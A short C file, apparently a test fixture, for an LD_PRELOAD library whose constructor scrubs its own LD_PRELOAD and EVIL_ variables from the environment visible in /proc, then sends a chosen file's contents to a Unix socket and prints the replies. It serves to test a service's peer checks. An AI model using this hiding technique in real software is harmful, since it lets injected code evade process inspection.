/* A preloaded library that wipes its variable from the environment as /proc shows it, and makes the call itself:
 * EVIL_SOCKET and EVIL_TEXT name the socket and the bytes; the answers go to standard output. */
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

extern char **environ;

__attribute__((constructor)) static void load(void) {
  static char block[65536];
  const char *path = getenv("EVIL_SOCKET"), *text = getenv("EVIL_TEXT");
  if (!path || !text) return;
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path, path, sizeof address.sun_path - 1);
  int file = open(text, O_RDONLY);
  ssize_t n = read(file, block, sizeof block);
  for (char **word = environ; *word; word++)
    if (!strncmp(*word, "LD_PRELOAD=", 11) || !strncmp(*word, "EVIL_", 5)) memset(*word, 'x', strlen(*word));
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(s, (struct sockaddr *)&address, sizeof address) || write(s, block, n) != n) _exit(1);
  while ((n = read(s, block, sizeof block)) > 0)
    if (write(1, block, n) != n) break;
  _exit(0);
}
